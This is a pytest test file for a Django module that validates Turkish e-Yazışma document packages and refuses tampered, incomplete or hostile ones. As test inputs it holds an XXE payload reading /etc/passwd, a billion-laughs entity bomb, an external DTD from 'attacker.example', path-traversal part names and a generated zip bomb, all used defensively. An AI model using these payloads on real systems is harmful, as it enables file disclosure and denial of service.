"""Incoming packages that must be refused, each with a Turkish message naming the problem:
not a package, parts missing, a part changed after packaging, a zip bomb, part names that
leave the package, XML with a DTD or entities, an unsupported kind of package."""

import io
import zipfile

import pytest
from django.utils import translation

from archive.eyazisma import (
    DigestMismatch,
    Limits,
    MissingPart,
    NotAPackage,
    PackageTooLarge,
    UndigestedPart,
    UnsafePartName,
    UnsafeXml,
    UnsupportedVersion,
    read_package,
    write_package,
)
from archive.eyazisma.testing import sample_letter

PDF = b"%PDF-1.4\n% letter\n" + b"0123456789" * 200
PDF_ITEM = "UstYazi/Cumhuriyet_Bayrami_ust_yazi.pdf"


@pytest.fixture(scope="module")
def package():
    letter = sample_letter(attachments=1)
    out = io.BytesIO()
    write_package(letter, PDF, {letter.ekler[0].id: b"%PDF-1.4 ek"}, out)
    return out.getvalue()


def rebuild(package, drop=(), replace=None, add=None):
    """The package with items dropped, replaced or added (as an attacker would)."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def refused(data, error_class, **kwargs):
    """The Turkish message of the error reading `data` raises."""
    with pytest.raises(error_class) as error:
        read_package(io.BytesIO(data), **kwargs)
    with translation.override("tr"):
        return str(error.value)


def test_a_pdf_is_not_a_package():
    message = refused(PDF, NotAPackage)
    assert message == "Dosya bir e-Yazışma paketi değil (OPC zip paketi değil)."


def test_a_plain_zip_without_opc_parts_is_not_a_package():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("yazi.pdf", PDF)
    assert "e-Yazışma paketi değil" in refused(out.getvalue(), NotAPackage)


def test_a_damaged_zip_is_not_a_package(package):
    assert "e-Yazışma paketi değil" in refused(package[: len(package) // 2], NotAPackage)


@pytest.mark.parametrize(
    "item",
    [
        "Ustveri/Ustveri.xml",
        PDF_ITEM,
        "PaketOzeti/PaketOzeti.xml",
        "NihaiUstveri/NihaiUstveri.xml",
        "Ekler/Program_1_Subat.pdf",
    ],
)
def test_a_package_missing_a_part_is_refused_naming_the_part(package, item):
    message = refused(rebuild(package, drop={item}), MissingPart)
    assert message == f"e-Yazışma paketinde /{item} bileşeni eksik."


def test_a_changed_letter_is_refused(package):
    tampered = rebuild(package, replace={PDF_ITEM: PDF.replace(b"letter", b"LETTER")})
    message = refused(tampered, DigestMismatch)
    assert f"/{PDF_ITEM}" in message
    assert "paket özetindeki değerle uyuşmuyor" in message


def test_a_changed_ustveri_is_refused(package):
    ustveri = zipfile.ZipFile(io.BytesIO(package)).read("Ustveri/Ustveri.xml")
    tampered = rebuild(
        package, replace={"Ustveri/Ustveri.xml": ustveri.replace(b"Bayram", b"Bayrak")}
    )
    assert "/Ustveri/Ustveri.xml" in refused(tampered, DigestMismatch)


def test_a_changed_number_is_refused(package):
    nihai = zipfile.ZipFile(io.BytesIO(package)).read("NihaiUstveri/NihaiUstveri.xml")
    tampered = rebuild(
        package, replace={"NihaiUstveri/NihaiUstveri.xml": nihai.replace(b"-1842", b"-1843")}
    )
    assert "/NihaiUstveri/NihaiUstveri.xml" in refused(tampered, DigestMismatch)


def test_an_attachment_slipped_in_without_a_digest_is_refused(package):
    rels = zipfile.ZipFile(io.BytesIO(package)).read("_rels/.rels")
    extra = (
        b'<Relationship Id="IdEk_X" Type="http://eyazisma.dpt/iliskiler/ek" '
        b'Target="/Ekler/fatura.pdf"/>'
    )
    tampered = rebuild(
        package,
        replace={"_rels/.rels": rels.replace(b"</Relationships>", extra + b"</Relationships>")},
        add={"Ekler/fatura.pdf": b"%PDF-1.4 fake"},
    )
    assert "/Ekler/fatura.pdf" in refused(tampered, UndigestedPart)


def test_a_zip_bomb_is_stopped_while_unpacking(package):
    # 60 MB of zeros deflate to ~60 kB: a ratio no letter or scan comes near.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in zipfile.ZipFile(io.BytesIO(package)).infolist():
            archive.writestr(
                info.filename, zipfile.ZipFile(io.BytesIO(package)).read(info.filename)
            )
        with archive.open("Ekler/bomba.bin", "w") as stream:
            for _ in range(60):
                stream.write(bytes(1024 * 1024))
    message = refused(out.getvalue(), PackageTooLarge)
    assert "/Ekler/bomba.bin" in message
    assert "zip bombası" in message


def test_the_total_unpacked_size_is_limited(package):
    message = refused(package, PackageTooLarge, limits=Limits(max_total_size=2000))
    assert "çok büyük" in message


def test_too_many_parts_are_refused(package):
    refused(package, PackageTooLarge, limits=Limits(max_parts=5))


@pytest.mark.parametrize(
    "name",
    ["../../etc/cron.d/x", "Ekler/../../x.pdf", "/etc/passwd", "Ekler\\..\\x.pdf", "C:/x.pdf"],
)
def test_a_part_name_leaving_the_package_is_refused(package, name):
    message = refused(rebuild(package, add={name: b"x"}), UnsafePartName)
    assert "güvenli olmayan" in message


def test_a_relationship_pointing_outside_the_package_is_refused(package):
    rels = zipfile.ZipFile(io.BytesIO(package)).read("_rels/.rels")
    tampered = rebuild(
        package,
        replace={
            "_rels/.rels": rels.replace(
                b'Target="/Ustveri/Ustveri.xml"', b'Target="../../etc/passwd"'
            )
        },
    )
    assert "../../etc/passwd" in refused(tampered, UnsafePartName)


def test_parts_differing_only_in_case_are_refused(package):
    refused(rebuild(package, add={"ustveri/USTVERI.xml": b"<x/>"}), UnsafePartName)


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE UstVeri [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<UstVeri xmlns="urn:dpt:eyazisma:schema:xsd:Ustveri-2"><BelgeId>&xxe;</BelgeId></UstVeri>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<UstVeri xmlns="urn:dpt:eyazisma:schema:xsd:Ustveri-2">&lol3;</UstVeri>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE UstVeri SYSTEM "http://attacker.example/evil.dtd">
<UstVeri xmlns="urn:dpt:eyazisma:schema:xsd:Ustveri-2"/>"""


@pytest.mark.parametrize(
    "payload", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"]
)
def test_xml_with_a_dtd_or_entities_is_refused(package, payload):
    message = refused(rebuild(package, replace={"Ustveri/Ustveri.xml": payload}), UnsafeXml)
    assert message.startswith("e-Yazışma paketinin /Ustveri/Ustveri.xml bileşeni DTD ya da varlık")
    assert "root:" not in message


def test_a_dtd_in_the_content_types_is_refused(package):
    types = zipfile.ZipFile(io.BytesIO(package)).read("[Content_Types].xml")
    payload = types.replace(
        b"<Types", b'<!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]><Types', 1
    )
    refused(rebuild(package, replace={"[Content_Types].xml": payload}), UnsafeXml)


def test_a_future_version_is_refused(package):
    ustveri = zipfile.ZipFile(io.BytesIO(package)).read("Ustveri/Ustveri.xml")
    payload = ustveri.replace(b"Ustveri-2", b"Ustveri-3")
    message = refused(
        rebuild(package, replace={"Ustveri/Ustveri.xml": payload}), UnsupportedVersion
    )
    assert "Ustveri-3" in message
    assert "desteklenmiyor" in message


def test_a_core_version_beyond_2_is_refused(package):
    core = zipfile.ZipFile(io.BytesIO(package)).read("docProps/core.xml")
    payload = core.replace(b"<version>2.0</version>", b"<version>3.0</version>")
    assert "3.0" in refused(
        rebuild(package, replace={"docProps/core.xml": payload}), UnsupportedVersion
    )


def test_an_encrypted_package_is_refused_as_unsupported(package):
    rels = zipfile.ZipFile(io.BytesIO(package)).read("_rels/.rels")
    extra = (
        b'<Relationship Id="IdSifreli" Type="http://eyazisma.dpt/iliskiler/sifreliicerik" '
        b'Target="/SifreliIcerik/x.enc"/>'
    )
    tampered = rebuild(
        package,
        replace={"_rels/.rels": rels.replace(b"</Relationships>", extra + b"</Relationships>")},
    )
    assert "şifreli paket (.eyps)" in refused(tampered, UnsupportedVersion)


def test_an_unsigned_attachment_in_an_odd_folder_is_read_not_crashed_on(package):
    rels = zipfile.ZipFile(io.BytesIO(package)).read("_rels/.rels")
    extra = (
        b'<Relationship Id="IdImzasizEk_ABC" Type="http://eyazisma.dpt/iliskiler/imzasizEk" '
        b'Target="/Ekler/_rels/not.pdf"/>'
    )
    odd = rebuild(
        package,
        replace={"_rels/.rels": rels.replace(b"</Relationships>", extra + b"</Relationships>")},
        add={"Ekler/_rels/not.pdf": b"%PDF-1.4 not"},
    )
    with read_package(io.BytesIO(odd)) as read:
        assert read.attachments["ABC"].read() == b"%PDF-1.4 not"
